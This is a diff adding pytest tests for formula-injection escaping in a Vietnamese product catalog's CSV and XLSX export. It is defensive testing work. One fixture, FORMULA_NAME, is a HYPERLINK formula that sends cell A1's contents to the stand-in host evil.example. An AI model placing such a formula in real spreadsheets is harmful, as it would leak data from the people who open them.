@@ -2,14 +2,17 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from pathlib import Path
 
 import pytest
+from openpyxl import load_workbook
 
 from assets import DEMO_DIR
 from chotdon.catalog import (
     CatalogError,
+    ProductRow,
     parse_catalog_bytes,
     read_catalog,
     rows_to_csv,
@@ -157,3 +160,36 @@ def test_a_bad_xlsx_cell_names_row_and_column() -> None:
         "price",
         True,
     )
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+
+
+def _formula_rows() -> list[ProductRow]:
+    return [
+        ProductRow("A1", FORMULA_NAME, 150000, "kg", 3, aliases=("=1+1", "dẻ")),
+        ProductRow("A2", "\u200b@SUM(1)", 20000, "-gói", 1, origin="+84 Lạng Sơn"),
+        ProductRow("A3", "'=đã có dấu nháy", 5000, "kg", 0),
+        ProductRow("A4", "Hạt dẻ Ngân Sơn", 180000, "kg", 7, sale_price=150000),
+    ]
+
+
+def test_csv_export_quotes_formula_names_and_reads_back_the_original() -> None:
+    rows = _formula_rows()
+    text = rows_to_csv(rows)
+    lines = list(csv.reader(io.StringIO(text)))
+    assert lines[1][1] == "'" + FORMULA_NAME and lines[1][5] == "'=1+1|dẻ"
+    assert lines[2][1] == "'\u200b@SUM(1)" and lines[2][3] == "'-gói"
+    assert lines[3][1] == "''=đã có dấu nháy" and lines[4][1] == "Hạt dẻ Ngân Sơn"
+    assert lines[4][2] == "180000"  # numbers are never quoted
+    assert parse_catalog_bytes(text.encode(), filename="out.csv") == rows
+
+
+def test_xlsx_export_has_string_cells_no_apostrophe_and_reads_back_the_original() -> None:
+    rows = _formula_rows()
+    data = rows_to_xlsx(rows)
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert sheet["B2"].value == FORMULA_NAME and sheet["B2"].data_type == "s"
+    assert sheet["F2"].value == "=1+1|dẻ" and sheet["C2"].value == 150000
+    assert parse_catalog_bytes(data, filename="out.xlsx") == rows
